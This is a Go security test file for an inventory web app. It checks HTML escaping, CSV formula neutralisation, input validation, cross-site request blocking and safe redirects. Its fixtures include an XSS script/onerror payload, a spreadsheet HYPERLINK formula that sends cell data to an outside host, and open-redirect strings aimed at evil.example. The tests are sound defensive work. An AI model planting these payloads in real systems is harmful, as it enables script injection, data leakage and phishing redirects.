package handlers

import (
	"encoding/csv"
	"io"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"stockroom/store"
	"stockroom/store/storetest"
)

// evil is a string that runs a script in a page that does not escape it. formula is a
// string that a spreadsheet runs as a formula.
const (
	evil    = `"><script>alert(1)</script><img src=x onerror=alert(1)>'`
	formula = `=HYPERLINK("http://example.com?"&A1)`
)

// hostile returns entities whose names, addresses and other free texts are this string.
func hostile(text string) []store.Entity {
	address := store.Address{Country: text, County: text, City: text, Street: text, Number: text, ZipCode: text}
	day := storetest.Now.AddDate(0, 0, -1)
	id := text
	return []store.Entity{
		&store.Customer{ID: id, Name: text, Email: text + "@example.com", Phones: []string{text}, Address: address, AccountRepID: text, Created: day},
		&store.Product{ID: id, Name: text, Description: text, SKU: text, Category: text},
		&store.Warehouse{ID: id, Name: text, Address: address},
		&store.WarehouseItem{ProductID: id, WarehouseID: id, Name: text, Bin: text},
		&store.StockMove{ID: "01HZX", ProductID: id, WarehouseID: id, Name: text, When: day, Reason: text, By: text, OrderID: id},
		&store.ExpectedDelivery{ID: id, ProductID: id, WarehouseID: id, Name: text, Due: day, Supplier: text, Quantity: 1},
		&store.Count{ID: id, WarehouseID: id, FromBin: text, Sheet: id, Rows: 1, Started: day, By: text},
		&store.CountRow{Sheet: id, Number: 1, ProductID: id, Name: text, SKU: text, Bin: text, Entered: true, Quantity: 1, Disputed: true, OtherBy: text, By: text, At: day},
		&store.Transfer{ID: id, ProductID: id, SourceID: id, TargetID: id, Name: text, Sent: day, Reason: text, By: text, Quantity: 1},
		&store.Order{ID: id, CustomerID: id, Date: day, Status: store.OrderOpen, CustomerName: text, ShipTo: address, PaymentState: store.InvoiceStatus(text), ShipmentState: store.ShipmentState(text)},
		&store.OrderItem{OrderID: id, ProductID: id, CustomerID: id, Date: day, Name: text, SKU: text, Quantity: 1},
		&store.Invoice{ID: id, OrderID: id, CustomerID: id, Date: day, Status: store.InvoiceUnpaid, Payments: []store.Payment{{ID: text, Type: text, Data: text, Date: day}}},
		&store.Shipment{ID: id, OrderID: id, WarehouseID: id, Date: day, Type: text, Status: store.ShipmentPacked, Address: address, Carrier: text, Tracking: text},
		&store.ShipmentItem{ID: id, OrderID: id, ShipmentID: id, ProductID: id, Name: text, Quantity: 1},
		&store.Event{ID: id, Partition: "o#" + id, When: day, By: text, What: store.EventCode(text), Subject: text, Why: text, Before: text, After: text},
	}
}

// hostilePaths returns the pages and lists that show the entities of hostile with this ID.
func hostilePaths(id string) []string {
	id = url.PathEscape(id)
	return []string{
		"/", "/search?q=" + url.QueryEscape(evil[:30]), "/search?q=" + id,
		"/orders", "/orders/" + id, "/orders/" + id + "/items", "/orders/" + id + "/invoices", "/orders/" + id + "/shipments", "/orders/" + id + "/packing-slip", "/orders/" + id + "/edit", "/orders/" + id + "/address/edit",
		"/invoices", "/invoices/" + id, "/invoices/" + id + "/payments", "/invoices/" + id + "/print",
		"/customers?bucket=_", "/customers?name=" + id, "/customers/" + id, "/customers/" + id + "/orders", "/customers/" + id + "/invoices", "/customers/" + id + "/products", "/customers/" + id + "/statement?to=today", "/customers/" + id + "/statement/print?to=today", "/customers/" + id + "/statement/send?to=today",
		"/products?bucket=_", "/products?category=" + id, "/products/" + id, "/products/" + id + "/orders",
		"/deliveries", "/deliveries?warehouse=" + id, "/deliveries/new?product=" + id + "&warehouse=" + id, "/products/" + id + "/stock/" + id + "/deliveries/" + id + "/receive", "/products/" + id + "/stock/" + id + "/deliveries/" + id + "/edit", "/products/" + id + "/stock/" + id + "/deliveries/" + id + "/cancel",
		"/counts", "/counts/new", "/counts/" + id, "/counts/" + id + "/review", "/counts/" + id + "/close",
		"/transfers", "/transfers?show=sent&warehouse=" + id, "/products/" + id + "/transfers/" + id + "/receive", "/products/" + id + "/transfers/" + id + "/cancel", "/warehouses/" + id + "/transfer?product=" + id,
		"/stock/low", "/stock/low?warehouse=" + id, "/warehouses", "/warehouses/" + id, "/warehouses/" + id + "/stock", "/warehouses/" + id + "/low", "/warehouses/" + id + "/shipments", "/warehouses/" + id + "/ledger", "/warehouses/" + id + "/receive", "/warehouses/" + id + "/receive?product=" + id + "&supplier=" + id,
		"/products/" + id + "/stock/" + id, "/products/" + id + "/stock/" + id + "/ledger", "/products/" + id + "?at=2026-11-21T10:00", "/products/" + id + "/stock/" + id + "?at=2026-11-21T10:00", "/warehouses/" + id + "?at=2026-11-21T10:00", "/products/p01?at=" + id, "/customers/" + id + "?at=2026-11-21T10:00", "/orders/" + id + "?at=2026-11-21T10:00", "/invoices/" + id + "?at=2026-11-21T10:00", "/accounts/" + id + "?at=2026-11-21T10:00", "/kayaks/" + id + "?at=2026-11-21T10:00", "/compare?of=%2Fproducts%2F" + url.QueryEscape(id) + "&from=2026-11-20", "/compare?of=%2Fcustomers%2F" + url.QueryEscape(id) + "&from=" + id, "/compare?of=%2Forders%2F" + url.QueryEscape(id) + "&from=2026-11-20", "/products/" + id + "/stock/" + id + "/adjust", "/products/" + id + "/stock/" + id + "/transfer",
		"/shipments", "/shipments?warehouse=" + id, "/shipments/" + id,
		"/account", "/orders?from=" + id, "/orders?status=" + id, "/customers?email=" + id, "/nowhere/" + id, "/orders/x" + id,
	}
}

func TestPages_EscapeStoredText(t *testing.T) {
	b := open(t, append(hostile(evil), hostile(formula)...)...)
	user := store.User{Name: evil, Role: store.Admin}
	if err := b.store.AddUser(t.Context(), user, password, "test"); err != nil {
		t.Fatal(err)
	}
	browser := b.as(t, evil)
	for _, path := range hostilePaths(evil) {
		page := browser.get(path)
		if page.status >= http.StatusInternalServerError {
			t.Errorf("%s: got status %d, want less than 500: %s", path, page.status, page.body)
		}
		if found := executable(page.body); found != "" {
			t.Errorf("%s: got %s, want nothing that runs", path, found)
		}
	}
}

// executable returns the first tag of a page that has an event handler or a javascript:
// URL, is an image, or is a script that is not from /static. It returns "" if the page has
// no such tag.
func executable(page string) string {
	z := html.NewTokenizer(strings.NewReader(page))
	for {
		switch z.Next() {
		case html.ErrorToken:
			return ""
		case html.StartTagToken, html.SelfClosingTagToken:
			token := z.Token()
			attributes := map[string]string{}
			for _, a := range token.Attr {
				attributes[a.Key] = a.Val
				if strings.HasPrefix(a.Key, "on") || strings.HasPrefix(strings.ToLower(strings.TrimSpace(a.Val)), "javascript:") {
					return token.String()
				}
			}
			if token.Data == "img" || token.Data == "script" && !strings.HasPrefix(attributes["src"], "/static/") {
				return token.String()
			}
		}
	}
}

func TestCSV_EscapesFormulas(t *testing.T) {
	b := open(t, hostile(formula)...)
	browser := b.as(t, "admin")
	formulas := 0
	for _, path := range hostilePaths(formula) {
		path, query, _ := strings.Cut(path, "?")
		file := browser.get(path + ".csv?" + query)
		if file.status != http.StatusOK {
			continue
		}
		if kind := file.header.Get("Content-Type"); !strings.HasPrefix(kind, "text/csv") || file.header.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("%s.csv: got Content-Type %s, want text/csv and nosniff", path, kind)
		}
		for rows := csv.NewReader(strings.NewReader(file.body)); ; {
			row, err := rows.Read()
			if err == io.EOF {
				break
			}
			if err != nil {
				t.Fatalf("%s.csv: %v", path, err)
			}
			for _, cell := range row {
				_, notNumber := strconv.Atoi(cell)
				if cell != "" && notNumber != nil && strings.Contains("=+-@\t\r\x00", cell[:1]) {
					t.Errorf("%s.csv: got the cell %q, want no formula", path, cell)
				}
				if strings.Contains(cell, "HYPERLINK") {
					formulas++
				}
			}
		}
	}
	if formulas < 50 {
		t.Errorf("got the stored text in %d cells, want at least 50", formulas)
	}
}

func TestPages_RejectInvalidQueries(t *testing.T) {
	b := open(t)
	browser := b.as(t, "viewer")
	for _, tt := range []struct {
		path   string
		status int
		want   string // text that the page must contain, such as the escaped input
	}{
		{"/orders?from=soon&to=2026-11-01", 422, `value="soon"`},
		{"/orders?from=soon&to=2026-11-01", 422, `value="2026-11-01"`},
		{"/orders?from=2026-11-02&to=2026-11-01", 422, `value="2026-11-02"`},
		{"/orders?from=0000-00-00", 422, `value="0000-00-00"`},
		{"/orders?from=%00", 422, ""},
		{"/orders?status=SOLD", 422, "SOLD"},
		{"/invoices?status=OPEN", 422, "UNPAID"},
		{"/shipments?status=OPEN", 422, "PACKED"},
		{"/invoices?to=99999-01-01", 422, `value="99999-01-01"`},
		{"/customers/c01?from=soon", 422, `value="soon"`},
		{"/customers/c01/orders?from=soon", 422, `value="soon"`},
		{"/products/p01?to=soon", 422, `value="soon"`},
		{"/orders?limit=0", 422, "from 1 to 200"},
		{"/orders?limit=201", 422, ""},
		{"/orders?limit=-1", 422, ""},
		{"/orders?limit=1e3", 422, ""},
		{"/orders?limit=99999999999999999999", 422, ""},
		{"/orders?sort=total", 422, ""},
		{"/products?sort=reverse", 422, ""},
		{"/orders.csv?from=soon", 422, "soon"},
		{"/orders.json?status=SOLD", 422, "SOLD"},
		{"/customers/c01.json?from=soon", 422, "soon"},
		{"/customers/c01/orders.csv?from=soon", 422, "soon"},
		{"/orders?stauts=OPEN", 400, "stauts"},
		{"/orders?status=OPEN&status=PAID", 400, ""},
		{"/orders?after=garbage", 400, ""},
		{"/orders?after=" + strings.Repeat("A", 5000), 400, ""},
		{"/orders?%zz", 400, ""},
		{"/orders/none", 404, `value="none"`},
		{"/orders/none.json", 404, "Order none not found."},
		{"/none.json", 404, "There is no JSON file at this address."},
		{"/orders/none.csv", 404, "There is no CSV file at this address."},
		{"/customers/none/orders.csv", 404, "error"},
		{"/products/none/orders", 404, `value="none"`},
		{"/warehouses/none/stock", 404, ""},
		{"/shipments?warehouse=none", 200, ""},
		{"/invoices/" + strings.Repeat("9", 3000), 404, ""},
		{"/invoices/o%23o0001", 404, ""},
		{"/search?q=" + strings.Repeat("x", 5000), 200, ""},
		{"/search?q=%00%0a%ff", 200, ""},
		{"/search?q=%23", 200, ""},
	} {
		got := browser.get(tt.path)
		if got.status != tt.status || !strings.Contains(got.body, tt.want) {
			t.Errorf("%.60s: got status %d, want %d and %q in\n%s", tt.path, got.status, tt.status, tt.want, content(got.body))
		}
	}
}

func TestForms_RejectUnknownFields(t *testing.T) {
	b := open(t)
	const forms = "application/x-www-form-urlencoded"
	for _, tt := range []struct {
		path, kind, body string
		status           int
	}{
		{"/login", forms, "username=admin&password=x&Role=admin", 400},
		{"/login", forms, "username=admin&username=viewer&password=x", 400},
		{"/login", "application/json", `{"username":"admin","password":"x"}`, 415},
		{"/login", "text/plain", "username=admin&password=x", 415},
		{"/login", "", "", 415},
		{"/login", forms, "username=" + strings.Repeat("a", 1<<20), 413},
		{"/login", forms, "%zz", 400},
		{"/account/password", forms, "old=x&password=y&again=y&role=admin", 400},
		{"/account/sessions/end", forms, "session=x&session=y", 400},
		{"/theme", forms, "theme=dark&theme=light", 400},
		{"/theme", "multipart/form-data; boundary=x", "--x--", 415},
		{"/orders", forms, "", 405},
		{"/nowhere", forms, "", 404},
	} {
		browser := b.as(t, "admin")
		r := browser.request(http.MethodPost, tt.path, tt.body)
		r.Header.Set("Content-Type", tt.kind)
		if got := browser.do(r); got.status != tt.status {
			t.Errorf("POST %s as %s, %.40q: got status %d, want %d", tt.path, tt.kind, tt.body, got.status, tt.status)
		}
	}
}

func TestForms_RejectCrossSiteRequests(t *testing.T) {
	b := open(t)
	for name, headers := range map[string]map[string]string{
		"another site":      {"Sec-Fetch-Site": "cross-site"},
		"another subdomain": {"Sec-Fetch-Site": "same-site"},
		"a foreign origin":  {"Origin": "https://example.com"},
		"an unknown origin": {"Origin": "null"},
	} {
		for _, row := range routes(http.NotFoundHandler()) {
			if row.method != http.MethodPost {
				continue
			}
			browser := b.browser(t)
			r := browser.request(http.MethodPost, row.path, "")
			for name, value := range headers {
				r.Header.Set(name, value)
			}
			if got := browser.do(r); got.status != http.StatusForbidden || got.header.Get("Set-Cookie") != "" {
				t.Errorf("POST %s from %s: got status %d or a cookie, want 403 and none", row.path, name, got.status)
			}
		}
	}
}

func TestRedirects_StayOnThisSite(t *testing.T) {
	b := open(t)
	for next, want := range map[string]string{
		"/orders?status=PAID": "/orders?status=PAID", "": "/", "orders": "/",
		"//evil.example": "/", "https://evil.example": "/", `/\evil.example`: "/", "/\t/evil.example": "/", `\\evil.example`: "/", "javascript:alert(1)": "/", "/%09/evil.example": "/", "/%5cevil.example": "/",
	} {
		browser := b.browser(t)
		form := url.Values{"username": {"viewer"}, "password": {password}}
		if got := browser.post("/login?next="+url.QueryEscape(next), form); got.status != http.StatusSeeOther || got.location != want {
			t.Errorf("sign-in with next %q: got redirect to %q, want %q", next, got.location, want)
		}
	}
	browser := b.as(t, "viewer")
	for from, want := range map[string]string{
		b.URL + "/orders?status=PAID": "/orders?status=PAID", "https://evil.example/orders": "/account", "": "/account", b.URL + "//evil.example": "/", "%zz": "/account",
	} {
		r := browser.request(http.MethodPost, "/theme", "theme=dark")
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		r.Header.Set("Referer", from)
		if got := browser.do(r); got.location != want {
			t.Errorf("theme chosen on %q: got redirect to %q, want %q", from, got.location, want)
		}
	}
	if got := b.browser(t).get("/orders?status=PAID"); got.location != "/login?next=%2Forders%3Fstatus%3DPAID" {
		t.Errorf("anonymous user: got redirect to %s, want the sign-in page", got.location)
	}
}
